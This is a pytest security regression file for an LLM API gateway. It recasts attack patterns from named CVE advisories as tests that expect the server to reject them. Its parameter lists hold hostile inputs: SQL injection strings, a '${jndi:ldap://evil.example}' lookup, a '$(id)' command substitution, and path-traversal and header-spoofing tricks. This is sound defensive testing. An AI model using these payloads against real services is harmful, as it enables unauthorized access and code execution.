"""The shapes of attacks that worked on another gateway in 2026 (LiteLLM's advisories), as tests.

Each name holds the identifier of the advisory whose shape it is.
"""

from __future__ import annotations

import pytest
from memory_store import MemoryStore
from server_support import agent, ask, key, make_runtime, operator, serving, settings, state

KEY = "mo_a1_0123456789abcdefghijklmnop"
RESOURCES = state(
    settings(operators=(operator("ada", "viewer", key("mo_o1_secret")),)),
    agent("dev-agent", key(KEY)),
)
CHAT = "/v1/chat/completions"


@pytest.mark.parametrize(
    "token",
    [
        "' OR '1'='1",
        "x' UNION SELECT sha256 FROM keys --",
        '"; DROP TABLE attempts; --',
        "%27%20OR%201=1",
        "mo_a1_%",
        "mo_a1_*",
        "{{7*7}}",
        "${jndi:ldap://evil.example}",
        "$(id)",
    ],
)
async def test_cve_2026_42208_no_query_or_template_in_a_key(token: str) -> None:
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        for path in (CHAT, "/api/providers"):
            method = "POST" if path == CHAT else "GET"
            bearer = await ask(
                port, path, method=method, headers=[f"authorization: Bearer {token}"]
            )
            header = await ask(port, path, method=method, headers=[f"x-api-key: {token}"])
            assert (bearer.status, header.status) == (401, 401)
            assert token not in bearer.body.decode()


async def test_cve_2026_35030_a_key_that_begins_alike_is_another_key() -> None:
    """The good key is used first, so that anything remembered of it would show."""
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        statuses = [
            (await ask(port, headers=[f"authorization: Bearer {token}"])).status
            for token in (KEY, KEY[:20], KEY[:-1], KEY[:20] + "x" * 12, KEY + "x", KEY.upper())
        ]
    assert statuses == [200, 401, 401, 401, 401, 401]


ODD_PATHS = (
    "/api/providers",
    "//api/providers",
    "/api//providers",
    "/api/providers/",
    "/api/./providers",
    "/%61pi/providers",
    "/healthz/../api/providers",
    "/api/providers?x=/healthz",
    "/api/providers#/healthz",
    "/api/providers;/healthz",
    "http://localhost/api/providers",
    "/healthz%2f..%2fapi%2fproviders",
    "/v1/../api/providers",
)


@pytest.mark.parametrize(
    "headers",
    [
        [],
        ["host: localhost/healthz?"],
        ["host: x/../healthz"],
        ["x-original-url: /healthz"],
        ["x-rewrite-url: /healthz"],
        ["x-forwarded-for: 127.0.0.1", "x-forwarded-host: localhost"],
        ["x-http-method-override: OPTIONS"],
    ],
)
async def test_cve_2026_49468_neither_host_nor_path_tricks_open_a_route(headers: list[str]) -> None:
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        for path in ODD_PATHS:
            answer = await ask(port, path, method="GET", headers=headers)
            assert answer.status in (400, 401, 404), path
            assert b"base_url" not in answer.body, path


@pytest.mark.parametrize("method", ["POST", "PUT", "PATCH", "DELETE"])
async def test_cve_2026_35029_no_route_changes_the_configuration_for_a_viewer(method: str) -> None:
    viewer = ["authorization: Bearer mo_o1_secret"]
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        for path in (
            "/api/providers",
            "/api/agents",
            "/api/revisions",
            "/config/update",
            "/key/generate",
        ):
            answer = await ask(port, path, method=method, headers=viewer)
            assert answer.status in (403, 404, 405), path


async def test_cve_2026_47101_an_agent_cannot_raise_itself() -> None:
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        for claim in ("x-modelops-role: deployer", "x-modelops-agent: ada", "x-user-role: admin"):
            answer = await ask(
                port, "/api/agents", method="GET", headers=[f"authorization: Bearer {KEY}", claim]
            )
            assert answer.status == 403


@pytest.mark.parametrize("content_type", ["multipart/form-data; boundary=x", "text/plain"])
async def test_cve_2024_8984_form_data_is_not_parsed(content_type: str) -> None:
    body = b"--x" + b"-" * 100_000
    async with serving(make_runtime(MemoryStore(RESOURCES))) as port:
        answer = await ask(
            port,
            "/api/providers",
            headers=["authorization: Bearer mo_o1_secret", f"content-type: {content_type}"],
            body=body,
        )
    assert answer.status in (405, 415)
